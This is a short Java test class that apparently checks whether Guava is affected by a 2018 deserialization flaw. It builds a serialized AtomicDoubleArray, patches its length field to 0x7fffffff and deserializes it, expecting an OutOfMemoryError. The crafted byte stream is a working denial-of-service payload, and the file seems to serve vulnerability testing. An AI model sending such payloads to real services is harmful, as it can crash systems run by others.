public class D_guava_2018_10237 {
    public static String run() throws Throwable {
        byte[] b = H.ser(new com.google.common.util.concurrent.AtomicDoubleArray(3));
        int p = -1;
        for (int i = 0; i + 3 < b.length; i++)
            if (b[i] == 0 && b[i + 1] == 0 && b[i + 2] == 0 && b[i + 3] == 3) p = i;
        b[p] = 0x7f;
        b[p + 1] = (byte) 0xff;
        b[p + 2] = (byte) 0xff;
        b[p + 3] = (byte) 0xff;
        Object r = H.tr(() -> H.deser(b));
        return H.v(H.is(r, OutOfMemoryError.class), H.cause(r));
    }
}
